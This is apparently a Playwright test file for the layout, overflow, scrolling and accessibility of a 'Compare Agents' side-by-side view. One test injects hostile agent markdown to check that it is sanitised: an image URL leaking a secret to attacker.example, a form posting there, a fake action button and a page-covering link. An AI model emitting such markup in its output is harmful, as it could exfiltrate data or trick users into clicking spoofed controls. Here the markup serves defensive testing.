// The comparison view of "Compare Agents" laid out by real chromium in an editor tab beside the side bar: two and
// three columns side by side, each column's buttons inside it and visible, nothing wider than its column but the
// diff bodies that scroll, a long answer scrolling within the page, and agent markdown that cannot fetch or look
// like our buttons.
import * as fs from 'node:fs';
import { expect, it } from 'vitest';
import { useBrowser } from './chatPage';
import { EDITOR_TAB_WIDTH, openCompare } from './comparePage';
import { column, view } from './compareViews';

const browser = useBrowser();

interface Box {
  left: number;
  right: number;
  top: number;
  bottom: number;
}

/** Each column's box, its buttons' boxes, and what sticks out of it (what a scrolling box holds is that box's). */
async function measure(page: import('playwright-core').Page) {
  return page.evaluate(() => {
    const box = (el: Element) => {
      const r = el.getBoundingClientRect();
      return { left: r.left, right: r.right, top: r.top, bottom: r.bottom };
    };
    return Array.from(document.querySelectorAll('.compare-column')).map((col) => {
      const inner = col.getBoundingClientRect();
      // Inside a box that scrolls or clips sideways (a diff body, a code block, a wide table): that box is checked.
      const clipped = (el: Element): boolean => {
        for (let up = el.parentElement; up && up !== col; up = up.parentElement)
          if (getComputedStyle(up).overflowX !== 'visible') return true;
        return false;
      };
      const overflowing = Array.from(col.querySelectorAll('*'))
        .filter((el) => !el.closest('.sr-only') && !clipped(el) && (el as HTMLElement).offsetParent !== null)
        .filter((el) => {
          const r = el.getBoundingClientRect();
          return r.width > 0 && (r.left < inner.left - 0.5 || r.right > inner.right + 0.5);
        })
        .map((el) => `${el.tagName}.${el.className}`);
      const buttons = Array.from(col.querySelectorAll('.compare-actions button'))
        .filter((el) => !(el as HTMLElement).hidden)
        .map((el) => ({ name: el.textContent ?? '', ...box(el) }));
      return {
        name: col.getAttribute('aria-label'),
        box: box(col),
        scrollWidth: col.scrollWidth,
        clientWidth: col.clientWidth,
        overflowing,
        buttons,
      };
    });
  });
}

function inside(inner: Box, outer: Box): boolean {
  return inner.left >= outer.left - 0.5 && inner.right <= outer.right + 0.5 && inner.top >= outer.top - 0.5;
}

it.each([2, 3])(
  '%i columns sit side by side at 1000 px, their buttons inside them and visible',
  async (count) => {
    const page = await openCompare(browser());
    const names = ['Claude Code', 'Gemini CLI', 'Codex'].slice(0, count);
    await page.show(
      view(
        names.map((name, i) => column(`t${i}`, name, i === 0 ? { state: 'working', runningSince: Date.now() } : {})),
      ),
    );
    // One diff unfolded, as a user comparing does.
    await page.page.click('.compare-column[data-thread-id="t1"] .compare-file-toggle');
    await page.page.screenshot({ path: `/tmp/compare-view-${count}.png` });
    const columns = await measure(page.page);
    expect(columns.map((c) => c.name)).toEqual(names);
    const viewport = EDITOR_TAB_WIDTH;
    for (const [i, col] of columns.entries()) {
      expect(col.box.left, col.name!).toBeGreaterThanOrEqual(0);
      expect(col.box.right, col.name!).toBeLessThanOrEqual(viewport);
      // Side by side: the same top, each right of the last.
      expect(col.box.top).toBeCloseTo(columns[0]!.box.top, 0);
      if (i > 0) expect(col.box.left).toBeGreaterThan(columns[i - 1]!.box.right - 0.5);
      expect(col.box.right - col.box.left).toBeGreaterThanOrEqual(280);
      expect(col.overflowing, col.name!).toEqual([]);
      expect(col.scrollWidth, col.name!).toBeLessThanOrEqual(col.clientWidth);
      expect(col.buttons.map((b) => b.name)).toEqual(
        i === 0 ? ['Take this one', 'Open chat', 'Stop', 'Run tests'] : ['Take this one', 'Open chat', 'Run tests'],
      );
      for (const b of col.buttons) {
        expect(inside(b, col.box), `${col.name}: ${b.name}`).toBe(true);
        expect(b.bottom, `${col.name}: ${b.name} on screen`).toBeLessThanOrEqual(860);
      }
    }
    await page.close();
  },
  30_000,
);

it('long unbroken words stay inside their column: a path, a URL, a tool title, a detail, test output', async () => {
  const page = await openCompare(browser());
  const word = 'x'.repeat(300);
  const long = column('t0', `Agent-${word}`, {
    state: 'failed',
    detail: `spawn ${word} ENOENT`,
    answer: `See https://example.com/${word} and \`${word}\` and ${word}.\n\n| a | b |\n|---|---|\n| ${word} | ${word} |\n`,
    toolCalls: [{ title: `cat ${word}`, kind: 'read', status: 'failed' }],
    toolCallCount: 1,
    files: [{ path: `src/${word}/${word}.ts`, kind: 'added', binary: true }],
    tests: { state: 'error', command: word, startedAt: Date.now(), tail: `${word}\n`, error: word },
  });
  await page.show(view([long, column('t1', 'Gemini CLI')], { testCommand: `npm test -- ${word}`, context: [word] }));
  await page.page.click('.compare-column[data-thread-id="t0"] .compare-tests-fold summary');
  await page.page.screenshot({ path: '/tmp/compare-view-long.png' });
  const columns = await measure(page.page);
  for (const col of columns) {
    expect(col.overflowing, col.name!).toEqual([]);
    expect(col.scrollWidth, col.name!).toBeLessThanOrEqual(col.clientWidth);
    for (const b of col.buttons) expect(inside(b, col.box), `${col.name}: ${b.name}`).toBe(true);
  }
  const page2 = await page.page.evaluate(() => document.documentElement.scrollWidth);
  expect(page2).toBeLessThanOrEqual(EDITOR_TAB_WIDTH);
  await page.close();
}, 30_000);

it('more columns than fit scroll sideways within the page, at least 280 px each', async () => {
  const page = await openCompare(browser());
  await page.show(view(['A', 'B', 'C', 'D', 'E'].map((name, i) => column(`t${i}`, `Agent ${name}`))));
  const grid = await page.page.evaluate(() => {
    const el = document.querySelector('.compare-columns')!;
    return { scrollWidth: el.scrollWidth, clientWidth: el.clientWidth, body: document.documentElement.scrollWidth };
  });
  expect(grid.scrollWidth).toBeGreaterThan(grid.clientWidth);
  expect(grid.body).toBeLessThanOrEqual(EDITOR_TAB_WIDTH);
  const widths = (await measure(page.page)).map((c) => c.box.right - c.box.left);
  for (const width of widths) expect(width).toBeGreaterThanOrEqual(280);
  await page.close();
}, 30_000);

it('a long answer scrolls within the page: the header and the follow-up box stay on screen', async () => {
  const page = await openCompare(browser());
  const long = Array.from({ length: 400 }, (_, i) => `Paragraph ${i}: the agent explains its change at length.`).join(
    '\n\n',
  );
  await page.show(view([column('t0', 'Claude Code', { answer: long }), column('t1', 'Gemini CLI')]));
  const before = await page.page.evaluate(() => {
    const main = document.querySelector('.compare-columns')!;
    main.scrollTop = 5000;
    const follow = document.querySelector('.compare-follow-up')!.getBoundingClientRect();
    const header = document.querySelector('.compare-header')!.getBoundingClientRect();
    return {
      scrollTop: main.scrollTop,
      pageScroll: document.scrollingElement!.scrollHeight - window.innerHeight,
      followBottom: follow.bottom,
      headerTop: header.top,
    };
  });
  expect(before.scrollTop).toBeGreaterThan(0);
  expect(before.pageScroll).toBeLessThanOrEqual(0);
  expect(before.followBottom).toBeLessThanOrEqual(860);
  expect(before.headerTop).toBeGreaterThanOrEqual(0);
  await page.close();
}, 30_000);

it("an agent's markdown with a remote image or a button makes no request and no real button", async () => {
  const page = await openCompare(browser());
  const requests: string[] = [];
  page.page.on('request', (request) => requests.push(request.url()));
  const hostile =
    'Look: <img src="https://attacker.example/leak?secret=abc"> ![x](https://attacker.example/md.png)\n\n' +
    '<button class="primary compare-take">Take this one</button> <form action="https://attacker.example/f"><input name="q"></form>' +
    '\n\n<a href="https://attacker.example/a" style="position:fixed;inset:0">covering link</a>';
  await page.show(view([column('t0', 'Claude Code', { answer: hostile }), column('t1', 'Gemini CLI')]));
  await page.page.waitForTimeout(300);
  const answer = await page.page.evaluate(() => {
    const el = document.querySelector('.compare-column[data-thread-id="t0"] .compare-answer')!;
    return {
      buttons: Array.from(el.querySelectorAll('button')).map((b) => `${b.className}:${b.textContent}`),
      images: el.querySelectorAll('img').length,
      forms: el.querySelectorAll('form, input:not([type=checkbox])').length,
      styled: el.querySelectorAll('[style]').length,
      placeholders: Array.from(el.querySelectorAll('.blocked-image')).map((p) => p.textContent),
      takeButtons: document.querySelectorAll('button.compare-take').length,
    };
  });
  expect(requests.filter((url) => url.includes('attacker.example'))).toEqual([]);
  expect(answer.images).toBe(0);
  expect(answer.forms).toBe(0);
  expect(answer.styled).toBe(0);
  // Only the code block's Copy (ours) is a button in the answer; the agent's "Take this one" is not.
  expect(answer.buttons.every((b) => b.startsWith('copy-code'))).toBe(true);
  expect(answer.takeButtons).toBe(2);
  expect(answer.placeholders.length).toBe(2);
  await page.close();
}, 30_000);

it('has no accessibility violation (axe-core, WCAG 2.1 AA): a working column, a failed one with its tests, a passed one with a diff unfolded', async () => {
  const page = await openCompare(browser());
  const now = Date.now();
  await page.show(
    view([
      column('t0', 'Claude Code', { state: 'working', runningSince: now }),
      column('t1', 'Gemini CLI', {
        state: 'failed',
        detail: 'The agent exited with code 1',
        tests: {
          state: 'failed',
          command: 'npm test',
          startedAt: now - 9000,
          exitCode: 1,
          durationMs: 9000,
          tail: 'FAIL',
        },
      }),
      column('t2', 'Codex', {
        tests: { state: 'passed', command: 'npm test', startedAt: now, durationMs: 4000, tail: 'ok' },
      }),
    ]),
  );
  await page.page.click('.compare-column[data-thread-id="t2"] .compare-file-toggle');
  await page.page.click('.compare-column[data-thread-id="t1"] .compare-tools summary');
  await page.page.screenshot({ path: '/tmp/compare-view-states.png' });
  await page.page.addScriptTag({ content: fs.readFileSync(require.resolve('axe-core/axe.min.js'), 'utf8') });
  const violations: string[] = await page.page.evaluate(async () => {
    const result = await (globalThis as any).axe.run(document, {
      runOnly: { type: 'tag', values: ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'best-practice'] },
    });
    return result.violations.map(
      (v: any) =>
        `${v.id}: ${v.nodes.map((n: any) => `${n.target.join(' ')} ${String(n.failureSummary).replace(/\s+/g, ' ')}`).join(' | ')}`,
    );
  });
  expect(violations).toEqual([]);
  await page.close();
}, 30_000);
